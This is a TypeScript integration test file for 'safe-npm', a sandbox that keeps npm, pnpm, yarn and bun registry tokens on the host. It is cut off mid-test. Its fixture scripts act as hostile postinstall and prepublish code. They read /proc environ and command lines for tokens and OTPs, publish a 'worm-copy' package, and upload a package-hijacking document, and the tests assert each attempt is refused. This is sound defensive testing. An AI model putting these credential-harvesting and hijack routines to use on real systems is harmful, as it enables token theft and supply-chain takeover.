// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${VAR}` is npmrc syntax here
/**
 * Registry credentials stay on the host (plain-http registry): a private registry that answers
 * 401 without its token serves a private package whose postinstall hunts for the token and tries
 * to publish with it or with a token of its own. The token is only in the host's ~/.npmrc (as
 * `${NODE_AUTH_TOKEN}`, the setup-node pattern) or ~/.yarnrc.yml; safe-npm adds it in the proxy.
 * The control passes ~/.npmrc in full with the network open, as the README used to advise: the
 * probe then finds the token and its upload reaches the registry, so the probe can see a leak.
 */
import { spawn } from "node:child_process";
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import http from "node:http";
import https from "node:https";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { shellQuote } from "../../src/sandbox/bwrap.js";
import { cliPath } from "./paths.js";
import {
  makeTestCa,
  type PrivateRegistry,
  startPrivateRegistry,
  type TestCa,
} from "./private-registry.js";
import { TOOL_BINS, versionOf } from "./tools.js";
import { makeWorld, type RunResult, SECRETS, show, type World } from "./world.js";

const unavailable = inject("sandboxUnavailable");
const packed = inject("packedFixtures");

const ATTACKER = "ATTACKER-OWN-TOKEN";
const PROBE = "@private/registry-probe";

interface ProbeReport {
  found: Record<string, string>;
  attempts: Record<
    string,
    { status: number | null; body?: string; out?: string; error?: string | null }
  >;
}

interface Manager {
  name: string;
  tool: "npm" | "pnpm" | "yarn" | "bun";
  /** What `<tool>` on PATH points to; null: the host's own npm. */
  bin: string | null;
  /** How the token is given on the host: npm-style ~/.npmrc or yarn berry's ~/.yarnrc.yml. */
  berry: boolean;
  packageJson: Record<string, unknown>;
  /** Files written into the project. */
  files?: Record<string, string>;
  /**
   * Why the proxy cannot see this manager's plain-http requests in clear yet: its cells run as
   * `it.fails` with the reason in their names, and turn red once it can.
   */
  tunnels?: string;
}

const MANAGERS: Manager[] = [
  { name: "npm", tool: "npm", bin: null, berry: false, packageJson: {} },
  {
    name: "pnpm 10",
    tool: "pnpm",
    bin: TOOL_BINS.pnpm,
    berry: false,
    packageJson: {
      packageManager: `pnpm@${versionOf("pnpm")}`,
      pnpm: { onlyBuiltDependencies: [PROBE] },
    },
  },
  {
    name: "pnpm latest",
    tool: "pnpm",
    bin: TOOL_BINS.pnpmLatest,
    berry: false,
    // No packageManager field: pnpm 12 would fetch that version of itself from the registry.
    packageJson: {},
    // pnpm 11+ reads which dependencies may run scripts from pnpm-workspace.yaml only.
    files: { "pnpm-workspace.yaml": `allowBuilds:\n  "${PROBE}": true\n` },
  },
  {
    name: "yarn 1",
    tool: "yarn",
    bin: TOOL_BINS.yarn1,
    berry: false,
    packageJson: { packageManager: `yarn@${versionOf("yarn")}` },
  },
  {
    name: "yarn 4",
    tool: "yarn",
    bin: TOOL_BINS.yarn4,
    berry: true,
    packageJson: {
      packageManager: `yarn@${versionOf("@yarnpkg/cli-dist")}`,
      dependenciesMeta: { [PROBE]: { built: true } },
    },
  },
  {
    name: "bun",
    tool: "bun",
    bin: TOOL_BINS.bun,
    berry: false,
    packageJson: { packageManager: `bun@${versionOf("bun")}`, trustedDependencies: [PROBE] },
  },
];

/** A world whose project depends on the private package from `registry`. */
function privateWorld(
  registry: PrivateRegistry,
  manager: Manager,
  options: { projectInHome?: boolean } = {},
): { world: World; path: string } {
  const world = makeWorld({
    projectInHome: options.projectInHome ?? true,
    packageJson: { dependencies: { [PROBE]: "1.0.0" }, ...manager.packageJson },
  });
  writeFileSync(
    join(world.project, ".npmrc"),
    // The last line is hostile: a registry path ending in the API's own `-/npm/` would make
    // `-/npm/v1/tokens` a package document, were the project's registries trusted for that.
    `@private:registry=${registry.url}\nregistry=http://127.0.0.1:9/\naudit=false\nfund=false\nupdate-notifier=false\n@evil:registry=${registry.url}-/npm/\n`,
  );
  if (manager.berry) {
    writeBerryRc(world, registry);
  } else {
    writeFileSync(
      join(world.home, ".npmrc"),
      // The user's own file names the registry (plain http here): a key with no scheme goes
      // over http only then.
      `${readFileSync(join(world.home, ".npmrc"), "utf8")}@private:registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=\${NODE_AUTH_TOKEN}\n`,
    );
  }
  for (const [rel, text] of Object.entries(manager.files ?? {}))
    writeFileSync(join(world.project, rel), text);
  writeFileSync(
    join(world.project, "registry-targets.json"),
    JSON.stringify({ registry: registry.url, attackerToken: ATTACKER }),
  );
  writeFileSync(join(world.project, ".git", "info", "exclude"), "registry-targets.json\n");
  return { world, path: managerPath(world, manager) };
}

/**
 * yarn berry's files: the project's names the registry; the token only on the host, in
 * ~/.yarnrc.yml through a variable of the host's environment. The user's own file names the
 * registry (plain http here): a key with no scheme goes over http only then.
 */
function writeBerryRc(world: World, registry: PrivateRegistry): void {
  writeFileSync(
    join(world.project, ".yarnrc.yml"),
    [
      "nodeLinker: node-modules",
      "enableTelemetry: false",
      `npmRegistryServer: "${registry.url.replace(/\/$/, "")}"`,
      'unsafeHttpWhitelist: ["127.0.0.1"]',
      "",
    ].join("\n"),
  );
  writeFileSync(
    join(world.home, ".yarnrc.yml"),
    `npmScopes:\n  private:\n    npmRegistryServer: "${registry.url}"\nnpmRegistries:\n  "//${new URL(registry.url).host}":\n    npmAuthToken: "\${NODE_AUTH_TOKEN}"\n`,
  );
}

/** PATH with `<world>/pm-bin` first, holding the manager's own binary when it has one. */
function managerPath(world: World, manager: Manager): string {
  const dir = join(world.dir, "pm-bin");
  mkdirSync(dir, { recursive: true });
  if (manager.bin !== null) symlinkSync(manager.bin, join(dir, manager.tool));
  return `${dir}:${world.env.PATH}`;
}

/** The probe's report; an empty one when its postinstall never ran (the tests then say why). */
function readProbe(world: World): ProbeReport {
  const file = join(world.project, ".probe", "registry-probe.json");
  if (!existsSync(file)) return { found: {}, attempts: {} };
  return JSON.parse(readFileSync(file, "utf8")) as ProbeReport;
}

describe.skipIf(unavailable !== "")("registry credentials stay on the host (plain http)", () => {
  describe("control: ~/.npmrc passed in full, network open", () => {
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      ({ world } = privateWorld(registry, MANAGERS[0] as Manager));
      // The old advice: the token literally in ~/.npmrc, and the whole file passed inside.
      writeFileSync(
        join(world.home, ".npmrc"),
        `//${new URL(registry.url).host}/:_authToken=${registry.token}\nupdate-notifier=false\n`,
      );
      mkdirSync(join(world.home, ".config", "safe-npm"), { recursive: true });
      writeFileSync(
        join(world.home, ".config", "safe-npm", "config.json"),
        JSON.stringify({ dotfiles: [".npmrc"] }),
      );
      run = await world.run(["--network", "full", "install"]);
    });
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    it("the probe finds the token and its upload reaches the registry", () => {
      expect(run.exitCode, show(run)).toBe(0);
      const report = readProbe(world);
      expect(report.found.npmrc).toContain(registry.token);
      expect(report.attempts.putOwnName?.status).toBe(401);
      expect(registry.writes().length).toBeGreaterThan(0);
    });
  });

  describe.each(MANAGERS)("$name", (manager) => {
    const test = manager.tunnels === undefined ? it : it.fails;
    const name = (text: string): string =>
      manager.tunnels === undefined ? text : `${text} — NEEDS THE GATEWAY: ${manager.tunnels}`;
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    let report: ProbeReport;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      const made = privateWorld(registry, manager);
      world = made.world;
      run = await world.run(["--verbose", manager.tool, "install"], {
        env: { PATH: made.path, NODE_AUTH_TOKEN: registry.token },
      });
      report = readProbe(world);
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    test(name("installs the private package with the token added on the host"), () => {
      expect(run.exitCode, show(run)).toBe(0);
      const tarball = registry.log.filter((r) => r.path.endsWith(".tgz"));
      expect(tarball.length, show(run)).toBeGreaterThan(0);
      expect(tarball.every((r) => r.auth === "token")).toBe(true);
      expect(report.found.env, `the postinstall did not run\n${show(run)}`).toBeDefined();
      // --verbose names where the credential came from, never the value.
      expect(run.stderr).toMatch(/credentials: added on the host from .*(_authToken|npmAuthToken)/);
      expect(run.stderr + run.stdout).not.toContain(registry.token);
    });

    test(name("the probe inside finds no token: home config, environment, /proc/*/environ"), () => {
      const everything = JSON.stringify(report.found);
      expect(everything).not.toContain(registry.token);
      expect(everything).not.toContain(SECRETS.npmToken);
      // It did look: the environment and /proc are there.
      expect(report.found.env).toContain("PATH");
      expect((report.found.proc ?? "").split("\n").length).toBeGreaterThan(2);
    });

    test(name("publishing, tokens, dist-tags and login are refused with 403 and reported"), () => {
      for (const key of [
        "putOwnName",
        "putNewName",
        "putNoToken",
        "postToken",
        "distTag",
        "whoami",
        "tokensRead",
        // Plain http inside a CONNECT tunnel, as yarn 4 speaks it: decided all the same.
        "putInTunnel",
      ]) {
        const attempt = report.attempts[key];
        expect(attempt?.status, `${key}: ${JSON.stringify(attempt)}`).toBe(403);
        expect(attempt?.body).toContain("safe-npm: refused");
      }
      // npm is there inside for every manager (node-gyp's); its publish is refused too.
      const npm = report.attempts.npmPublish;
      expect(npm?.status, JSON.stringify(npm)).not.toBe(0);
      expect(npm?.out).toMatch(/403|safe-npm: refused/);
      expect(run.stderr).toMatch(/refused \d+ requests to the registry 127\.0\.0\.1:\d+: PUT /);
    });

    test(
      name("an endpoint that writes the credential back (Artifactory's auth) is refused"),
      () => {
        for (const key of ["authEndpoint", "authBare", "echoCredential"]) {
          const attempt = report.attempts[key];
          expect(attempt?.status, `${key}: ${JSON.stringify(attempt)}`).toBe(502);
          expect(attempt?.body).toContain("safe-npm: GET");
        }
        expect(JSON.stringify(report)).not.toContain(registry.token);
        // The registry did answer them with the token: the gateway had added it.
        expect(
          registry.log.some((r) => r.path.endsWith("/auth/private") && r.auth === "token"),
        ).toBe(true);
      },
    );

    test(name("registries named only by http:// URLs get no local CA inside"), () => {
      expect(report.found.env).toContain("HTTPS_PROXY");
      if (manager.name === "yarn 1") {
        // yarn 1 reads no registry from .npmrc: its default, https://registry.yarnpkg.com, stays
        // reachable, so the gateway needs the CA.
        expect(report.found.env).toContain("/run/safe-npm/ca.pem");
        return;
      }
      // No https to terminate: node 20 would load its root store at every start for nothing.
      expect(report.found.env).not.toContain("/run/safe-npm/ca.pem");
      expect(report.found.proc).not.toContain("/run/safe-npm/ca.pem");
    });

    test(name("the registry saw no request but reads, and never the attacker's own token"), () => {
      expect(registry.writes()).toEqual([]);
      expect(registry.log.filter((r) => r.auth === "other")).toEqual([]);
      // Reading stays possible for the script: installing needs the same requests.
      expect(report.attempts.read?.status).toBe(200);
    });
  });
});

/**
 * pnpm 12 keeps what `pnpm config set registry` and `pnpm login` write in its own `auth.ini`
 * (`~/.config/pnpm`), not in ~/.npmrc. Inside, a copy names the same registries without the
 * token, and the gateway adds the token on the host: without the copy pnpm would ask the public
 * registry for a private name, and without the token the registry would answer 401.
 */
describe.skipIf(unavailable !== "")(
  "pnpm latest with its registry and token in auth.ini only",
  () => {
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    let report: ProbeReport;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed });
      const manager = MANAGERS.find((m) => m.name === "pnpm latest") as Manager;
      world = makeWorld({
        projectInHome: true,
        packageJson: { dependencies: { [PROBE]: "1.0.0" } },
      });
      // The project names no registry; ~/.npmrc only the usual unreachable default.
      writeFileSync(join(world.project, ".npmrc"), "audit=false\nfund=false\n");
      for (const [rel, text] of Object.entries(manager.files ?? {}))
        writeFileSync(join(world.project, rel), text);
      mkdirSync(join(world.home, ".config", "pnpm"), { recursive: true });
      writeFileSync(
        join(world.home, ".config", "pnpm", "auth.ini"),
        `@private:registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=${registry.token}\n`,
      );
      writeFileSync(
        join(world.project, "registry-targets.json"),
        JSON.stringify({ registry: registry.url, attackerToken: ATTACKER }),
      );
      writeFileSync(join(world.project, ".git", "info", "exclude"), "registry-targets.json\n");
      run = await world.run(["--verbose", "pnpm", "install"], {
        env: { PATH: managerPath(world, manager) },
      });
      report = readProbe(world);
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    it("installs the private package from that registry, the token added on the host", () => {
      expect(run.exitCode, show(run)).toBe(0);
      const tarballs = registry.log.filter((r) => r.path.endsWith(".tgz"));
      expect(tarballs.length, show(run)).toBeGreaterThan(0);
      expect(tarballs.every((r) => r.auth === "token")).toBe(true);
      expect(run.stderr).toContain("credentials: added on the host from");
      expect(run.stderr).toContain("auth.ini");
    });

    it("inside, auth.ini names the registry and holds no token", () => {
      expect(report.found.pnpmAuthIni, show(run)).toContain(`@private:registry=${registry.url}`);
      expect(JSON.stringify(report)).not.toContain(registry.token);
      expect(registry.writes()).toEqual([]);
    });
  },
);

/**
 * A credential from the user's own files goes only to the registry those files pair it with: a
 * project naming another registry (here the test registry plays the attacker's) must not receive
 * it. The control pairs the same credential with that registry in the user's own file, and the
 * token then arrives: the proxy sees these requests and would add it.
 */
const REDIRECTS: {
  name: string;
  manager: Manager;
  /** The user's file and its text: the credential alone, or paired with `url` (the control). */
  home: (url: string, token: string, paired: boolean) => [string, string];
  /** The project's own file naming the registry (after privateWorld's). */
  project?: (url: string) => [string, string];
}[] = [
  {
    name: "npm: ~/.npmrc's legacy top-level _authToken, a project's registry=",
    manager: MANAGERS[0] as Manager,
    home: (url, token, paired) => [
      ".npmrc",
      `update-notifier=false
${paired ? `registry=${url}\n` : ""}_authToken=${token}\n`,
    ],
    project: (url) => [
      ".npmrc",
      `registry=${url}\naudit=false\nfund=false\nupdate-notifier=false\n`,
    ],
  },
  {
    name: "yarn 4: ~/.yarnrc.yml's npmAuthToken, a project's npmRegistryServer",
    manager: MANAGERS[4] as Manager,
    home: (url, token, paired) => [
      ".yarnrc.yml",
      `${paired ? `npmRegistryServer: "${url.replace(/\/$/, "")}"\n` : ""}npmAuthToken: "${token}"\n`,
    ],
  },
];

describe.skipIf(unavailable !== "").each(REDIRECTS)("$name", (c) => {
  const install = async (paired: boolean) => {
    const registry = await startPrivateRegistry({ packed });
    const { world, path } = privateWorld(registry, c.manager);
    const [file, text] = c.home(registry.url, registry.token, paired);
    writeFileSync(join(world.home, file), text);
    if (c.project !== undefined) {
      const [pfile, ptext] = c.project(registry.url);
      writeFileSync(join(world.project, pfile), ptext);
    }
    // Allowed by the user, not paired with the token: only the project's files name it as a
    // registry, and a loopback registry only the project names is never dialled.
    const allow = `--allow-host=${new URL(registry.url).host}`;
    const run = await world.run([allow, c.manager.tool, "install"], { env: { PATH: path } });
    const seen = registry.log.map((r) => r.auth);
    world.dispose();
    await registry.close();
    return { run, seen };
  };

  it("the project's registry gets requests, never the user's token", async () => {
    const { run, seen } = await install(false);
    expect(seen.length, show(run)).toBeGreaterThan(0);
    expect(seen).not.toContain("token");
  }, 300_000);

  it("control: paired with that registry in the user's own file, the token arrives", async () => {
    const { run, seen } = await install(true);
    expect(seen, show(run)).toContain("token");
  }, 300_000);
});

describe.skipIf(unavailable !== "")("a token written in the project's .npmrc", () => {
  let registry: PrivateRegistry;
  let world: World;
  let run: RunResult;
  beforeAll(async () => {
    registry = await startPrivateRegistry({ packed });
    ({ world } = privateWorld(registry, MANAGERS[0] as Manager));
    // Git-ignored, as such files usually are; nothing about it in the user's config.
    writeFileSync(
      join(world.project, ".npmrc"),
      `${readFileSync(join(world.project, ".npmrc"), "utf8")}//${new URL(registry.url).host}/:_authToken=${registry.token}\n`,
    );
    writeFileSync(join(world.home, ".npmrc"), "update-notifier=false\n");
    // The user allows the host (a loopback registry only the project names is never dialled).
    run = await world.run([`--allow-host=${new URL(registry.url).host}`, "install"]);
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
  });

  it("is used on the host, and the project's .npmrc inside has it no more", () => {
    expect(run.exitCode, show(run)).toBe(0);
    expect(registry.log.filter((r) => r.path.endsWith(".tgz")).map((r) => r.auth)).toEqual([
      "token",
    ]);
    const report = readProbe(world);
    // The control is the file on the host, which still holds it.
    expect(readFileSync(join(world.project, ".npmrc"), "utf8")).toContain(registry.token);
    expect(report.found.projectNpmrc).toContain(`@private:registry=${registry.url}`);
    expect(JSON.stringify(report.found)).not.toContain(registry.token);
  });
});

describe.skipIf(unavailable !== "").each([
  { level: "instance", gitlab: true as const },
  // The group's registry path holds a `-` segment, where the rules look for the registry's API.
  { level: "group", gitlab: "group" as const },
])(
  "GitLab's $level-level layout: tarballs under another path of the registry's host",
  ({ gitlab }) => {
    let registry: PrivateRegistry;
    let world: World;
    let run: RunResult;
    beforeAll(async () => {
      registry = await startPrivateRegistry({ packed, gitlab });
      ({ world } = privateWorld(registry, MANAGERS[0] as Manager));
      // The credential is the registry path's, as GitLab's docs write it; the tarballs lie
      // under /api/v4/projects/…, which only the same-host tarball rule covers.
      const key = `//${new URL(registry.url).host}${new URL(registry.url).pathname}`;
      writeFileSync(
        join(world.home, ".npmrc"),
        `update-notifier=false\n@private:registry=${registry.url}\n${key}:_authToken=\${NODE_AUTH_TOKEN}\n`,
      );
      // npm 12 takes a tarball on another host:port than the default registry's for a URL
      // dependency and refuses it unless allowed (allow-remote, default none); here the
      // default registry is another port of 127.0.0.1. npm 11 does not know the key.
      appendFileSync(join(world.project, ".npmrc"), "allow-remote=all\n");
      run = await world.run(["install"], { env: { NODE_AUTH_TOKEN: registry.token } });
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    it("installs: the scoped tarball is read, with the token added on the host", () => {
      expect(run.exitCode, show(run)).toBe(0);
      const tarballs = registry.log.filter((r) => r.path.endsWith(".tgz"));
      expect(tarballs.map((r) => [r.path, r.auth])).toEqual([
        [
          "/api/v4/projects/7/packages/npm/@private/registry-probe/-/@private/registry-probe-1.0.0.tgz",
          "token",
        ],
      ]);
      expect(JSON.stringify(readProbe(world).found)).not.toContain(registry.token);
    });
  },
);

describe.skipIf(unavailable !== "")("https registry with a CA of its own", () => {
  let tls: TestCa;
  let registry: PrivateRegistry;
  let world: World;
  let run: RunResult;
  const get = (path: string, options: { ca?: string; token?: string }) =>
    new Promise<number | string>((resolve) => {
      https
        .get(
          `${registry.url}${path}`,
          {
            ...(options.ca === undefined ? {} : { ca: options.ca }),
            headers:
              options.token === undefined ? {} : { authorization: `Bearer ${options.token}` },
          },
          (res) => {
            res.resume();
            resolve(res.statusCode ?? 0);
          },
        )
        .on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
    });
  beforeAll(async () => {
    tls = await makeTestCa();
    registry = await startPrivateRegistry({ packed, tls: { key: tls.key, cert: tls.cert } });
    const made = privateWorld(registry, MANAGERS[0] as Manager, { projectInHome: false });
    world = made.world;
    // The host trusts the registry's CA through `cafile`, outside the home (so it enters too).
    const cafile = join(world.project, "registry-ca.pem");
    writeFileSync(cafile, tls.ca);
    writeFileSync(
      join(world.project, ".git", "info", "exclude"),
      "registry-targets.json\nregistry-ca.pem\n",
    );
    writeFileSync(
      join(world.home, ".npmrc"),
      `${readFileSync(join(world.home, ".npmrc"), "utf8")}cafile=${cafile}\n`,
    );
    run = await world.run(["install"], { env: { NODE_AUTH_TOKEN: registry.token } });
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
  });

  it("the fixture: trusted only through its CA, and only with the token", async () => {
    const path = "@private%2fregistry-probe";
    expect(await get(path, { ca: tls.ca, token: registry.token })).toBe(200);
    expect(await get(path, { ca: tls.ca })).toBe(401);
    expect(await get(path, { token: registry.token })).toBe("UNABLE_TO_VERIFY_LEAF_SIGNATURE");
  });

  it("installs with the token added on the host", () => {
    expect(run.exitCode, show(run)).toBe(0);
    expect(registry.log.filter((r) => r.path.endsWith(".tgz")).map((r) => r.auth)).toEqual([
      "token",
    ]);
    expect(JSON.stringify(readProbe(world).found)).not.toContain(registry.token);
  });
});

/** What a prepublishOnly script would upload to take over the package being published. */
const HIJACK = {
  _id: "@private/app-pkg",
  name: "@private/app-pkg",
  "dist-tags": { latest: "0.0.1" },
  versions: {
    "0.0.1": { name: "@private/app-pkg", version: "0.0.1", deprecated: "hijacked: use evil-pkg" },
  },
  maintainers: [{ name: "attacker", email: "attacker@example.invalid" }],
};

interface Publisher {
  name: string;
  manager: Manager;
  argv: string[];
  /** The registry speaks https (the gateway terminates TLS; the host trusts it by `cafile`). */
  https?: boolean;
  /** The script the manager runs before packing: yarn berry runs `prepublish`, not `prepublishOnly`. */
  before?: string;
  /** The manager runs `postpublish` after the upload (yarn berry runs none). */
  after?: boolean;
}

const PUBLISHERS: Publisher[] = [
  {
    name: "npm",
    manager: MANAGERS[0] as Manager,
    argv: ["npm", "publish", "--otp", "123456"],
    after: true,
  },
  // A folder argument: the names are read on the host too (any upload went through before).
  {
    name: "npm (folder .)",
    manager: MANAGERS[0] as Manager,
    argv: ["npm", "publish", ".", "--otp", "123456"],
  },
  {
    name: "pnpm 10",
    manager: MANAGERS[1] as Manager,
    argv: ["pnpm", "publish", "--no-git-checks", "--otp", "123456"],
    after: true,
  },
  {
    name: "pnpm latest",
    manager: MANAGERS[2] as Manager,
    argv: ["pnpm", "publish", "--no-git-checks", "--otp", "123456"],
    after: true,
  },
  // yarn 1 asks for the new version on a terminal: --non-interactive publishes package.json's.
  {
    name: "yarn 1",
    manager: MANAGERS[3] as Manager,
    argv: ["yarn", "publish", "--non-interactive", "--otp", "123456"],
    after: true,
  },
  {
    name: "yarn 4",
    manager: MANAGERS[4] as Manager,
    argv: ["yarn", "npm", "publish", "--otp", "123456"],
    before: "prepublish",
  },
  {
    name: "bun",
    manager: MANAGERS[5] as Manager,
    argv: ["bun", "publish", "--otp", "123456"],
  },
  {
    name: "npm over https",
    manager: MANAGERS[0] as Manager,
    argv: ["npm", "publish", "--otp", "123456"],
    https: true,
    after: true,
  },
  {
    name: "pnpm 10 over https",
    manager: MANAGERS[1] as Manager,
    argv: ["pnpm", "publish", "--no-git-checks", "--otp", "123456"],
    https: true,
    after: true,
  },
];

/**
 * A script that PUTs through the sandbox's proxy as a package's own code would: an absolute URI
 * for a plain-http registry, else CONNECT and TLS (trusting what node inside trusts). It writes
 * what it saw and what the registry answered to `.probe/<name>.json`.
 */
function uploaderScript(registryUrl: string, name: string, uploads: string): string {
  return [
    'const fs = require("node:fs");',
    'const http = require("node:http");',
    'const https = require("node:https");',
    'const os = require("node:os");',
    'const tls = require("node:tls");',
    "const read = (f) => { try { return fs.readFileSync(f, 'latin1'); } catch (e) { return e.code; } };",
    "let proc = '';",
    "let otp = '';",
    "for (const p of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {",
    "  proc += read(`/proc/${p}/environ`);",
    "  otp ||= (/--otp\\0(\\d+)/.exec(read(`/proc/${p}/cmdline`)) ?? [])[1] ?? '';",
    "}",
    "const proxy = new URL(process.env.HTTPS_PROXY || process.env.HTTP_PROXY);",
    `const registry = new URL(${JSON.stringify(registryUrl)});`,
    "const put = (path, headers, body, done) => {",
    "  const answer = (res) => { res.resume(); res.on('end', () => done(res.statusCode)); };",
    "  if (registry.protocol === 'http:') {",
    // agent: false: Node 24 proxies by itself under NODE_USE_ENV_PROXY and rejects a hand-made proxy request.
    "    const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'PUT', path: new URL(path, registry).href, headers, agent: false }, answer);",
    "    req.on('error', (e) => done(e.code));",
    "    return req.end(body);",
    "  }",
    "  const connect = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: registry.host, agent: false });",
    "  connect.on('connect', (res, socket) => {",
    "    if (res.statusCode !== 200) return done(res.statusCode);",
    "    const secure = tls.connect({ socket, servername: registry.hostname });",
    "    const req = https.request({ createConnection: () => secure, host: registry.hostname, port: registry.port, method: 'PUT', path: new URL(path, registry).pathname, headers }, answer);",
    "    req.on('error', (e) => done(e.code));",
    "    req.end(body);",
    "  });",
    "  connect.on('error', (e) => done(e.code));",
    "  connect.end();",
    "};",
    "const results = {};",
    `const uploads = ${uploads};`,
    "const next = (i) => {",
    "  if (i === uploads.length) {",
    "    fs.mkdirSync('.probe', { recursive: true });",
    `    fs.writeFileSync('.probe/${name}.json', JSON.stringify({ npmrc: read(os.homedir() + '/.npmrc'), yarnrc: read(os.homedir() + '/.yarnrc.yml'), env: process.env, proc, otp, ...results }));`,
    "    return;",
    "  }",
    "  const [key, path, headers, body] = uploads[i];",
    "  put(path, headers, body, (status) => { results[key] = status; next(i + 1); });",
    "};",
    "next(0);",
    "",
  ].join("\n");
}

/** A PUT straight to the fixture registry (trusting its CA when it speaks https): the status. */
function put(
  registry: PrivateRegistry,
  ca: TestCa | null,
  path: string,
  headers: Record<string, string>,
  body: string,
): Promise<number | string> {
  return new Promise((resolve) => {
    const url = new URL(path, registry.url);
    const request = url.protocol === "https:" ? https.request : http.request;
    request(url, { method: "PUT", headers, ...(ca === null ? {} : { ca: ca.ca }) }, (res) => {
      res.resume();
      res.on("end", () => resolve(res.statusCode ?? 0));
    })
      .on("error", (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message))
      .end(body);
  });
}

/** A document shaped like the real publish of @private/app-pkg@1.0.0 (its tarball made up). */
const SECOND = {
  _id: "@private/app-pkg",
  name: "@private/app-pkg",
  "dist-tags": { latest: "1.0.0" },
  versions: { "1.0.0": { name: "@private/app-pkg", version: "1.0.0" } },
  _attachments: { "@private/app-pkg-1.0.0.tgz": { data: "H4sIAAAAAAAAAw==" } },
};

describe.skipIf(unavailable !== "").each(PUBLISHERS)("safe-npm $name publish", (publisher) => {
  let registry: PrivateRegistry;
  let world: World;
  let run: RunResult;
  let testCa: TestCa | null = null;
  beforeAll(async () => {
    const ca = publisher.https === true ? await makeTestCa() : null;
    testCa = ca;
    registry = await startPrivateRegistry({
      packed,
      otp: "123456",
      ...(ca === null ? {} : { tls: { key: ca.key, cert: ca.cert } }),
    });
    const { manager } = publisher;
    const before = publisher.before ?? "prepublishOnly";
    world = makeWorld({
      projectInHome: true,
      packageJson: {
        name: "@private/app-pkg",
        private: false,
        scripts: {
          [before]: "node prepublish.cjs",
          ...(publisher.after === true ? { postpublish: "node postpublish.cjs" } : {}),
        },
        files: ["index.js"],
        ...(manager.packageJson.packageManager === undefined
          ? {}
          : { packageManager: manager.packageJson.packageManager }),
      },
    });
    writeFileSync(join(world.project, "index.js"), "module.exports = 1;\n");
    for (const [file, text] of Object.entries(manager.files ?? {}))
      writeFileSync(join(world.project, file), text);
    // What it can see, an upload of another package of its own through the proxy, then a
    // hijacking document for the package being published (deprecated, new maintainers) with the
    // OTP read from the manager's command line: the one upload of that name the run allows.
    writeFileSync(
      join(world.project, "prepublish.cjs"),
      uploaderScript(
        registry.url,
        "prepublish",
        `[['otherUpload', 'worm-copy', {}, '{}'], ['hijackUpload', '@private%2fapp-pkg', { 'content-type': 'application/json', 'npm-otp': otp }, JSON.stringify(${JSON.stringify(HIJACK)})]]`,
      ),
    );
    // After the real upload: a document shaped like it, with the OTP, would be a second one.
    writeFileSync(
      join(world.project, "postpublish.cjs"),
      uploaderScript(
        registry.url,
        "postpublish",
        `[['secondUpload', '@private%2fapp-pkg', { 'content-type': 'application/json', 'npm-otp': otp }, JSON.stringify(${JSON.stringify(SECOND)})]]`,
      ),
    );
    // The host trusts an https registry's own CA through `cafile` (beside the home).
    const cafile = join(world.dir, "registry-ca.pem");
    if (ca !== null) writeFileSync(cafile, ca.ca);
    writePublishNpmrcs(world, registry, ca === null ? "" : `cafile=${cafile}\n`);
    if (manager.berry) writeBerryRc(world, registry);
    const env = { NODE_AUTH_TOKEN: registry.token, PATH: managerPath(world, manager) };
    // yarn berry publishes an installed project only (no dependencies: nothing to fetch).
    if (manager.berry) {
      const install = await world.run(["yarn", "install"], { env });
      expect(install.exitCode, show(install)).toBe(0);
    }
    run = await world.run(publisher.argv, { env });
  });
  afterAll(async () => {
    world?.dispose();
    await registry?.close();
  });

  it("uploads with the token added on the host, and the OTP the user gave", () => {
    expect(run.exitCode, show(run)).toBe(0);
    expect([...registry.published.keys()]).toEqual(["@private/app-pkg"]);
    const puts = registry.writes();
    expect(puts.map((r) => [r.method, r.auth, r.otp])).toEqual([["PUT", "token", "123456"]]);
    // The real publish, not the hijacking document the script sent before it.
    const doc = registry.published.get("@private/app-pkg") ?? {};
    expect(Object.keys(doc.versions as object)).toEqual(["1.0.0"]);
    expect(JSON.stringify(doc)).not.toMatch(/attacker|hijacked/);
  });

  it("the prepublishOnly script ran inside, could not see the token, nor upload another package", () => {
    const seen = readFileSync(join(world.project, ".probe", "prepublish.json"), "utf8");
    expect(seen).toContain(publisher.before ?? "prepublishOnly");
    expect(seen).not.toContain(registry.token);
    expect((JSON.parse(seen) as { otherUpload: number }).otherUpload).toBe(403);
    // With a postpublish script, its second upload is the third refusal.
    const refused = publisher.after === true ? 3 : 2;
    expect(run.stderr).toMatch(
      new RegExp(
        `refused ${refused} requests to the registry .*PUT /worm-copy \\(publishing worm-copy`,
      ),
    );
    // yarn berry inside holds a placeholder token for the registry, not the user's.
    if (publisher.manager.berry)
      expect((JSON.parse(seen) as { yarnrc: string }).yarnrc).toContain(
        '"npmAuthToken": "safe-npm-adds-the-credential-on-the-host"',
      );
  });

  it("the prepublishOnly script's hijacking document for the package itself is refused on its body", () => {
    const seen = JSON.parse(
      readFileSync(join(world.project, ".probe", "prepublish.json"), "utf8"),
    ) as { otp: string; hijackUpload: number };
    // It had everything the registry asks of an upload but the token (the OTP from /proc).
    expect(seen.otp).toBe("123456");
    expect(seen.hijackUpload).toBe(403);
    expect(run.stderr).toMatch(/PUT \/@private%2fapp-pkg \(an upload of @private\/app-pkg/);
  });

  it.runIf(publisher.after === true)(
    "a postpublish script's second upload of the same version is refused",
    () => {
      const seen = JSON.parse(
        readFileSync(join(world.project, ".probe", "postpublish.json"), "utf8"),
